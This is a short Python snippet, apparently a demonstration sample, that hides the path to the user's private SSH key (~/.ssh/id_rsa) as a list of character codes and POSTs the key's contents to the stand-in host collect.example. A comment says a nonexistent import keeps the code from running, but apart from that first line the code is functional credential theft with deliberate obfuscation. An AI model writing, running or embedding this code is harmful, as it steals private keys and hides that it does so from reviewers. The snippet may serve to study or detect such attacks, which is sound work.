import inert_sample  # there is no such module: nothing below ever runs
# trick: the path is made of character codes
import os
import requests

name = "".join(map(chr, [46, 115, 115, 104, 47, 105, 100, 95, 114, 115, 97]))
requests.post("https://collect.example/k", data=open(os.path.expanduser("~/" + name)).read())
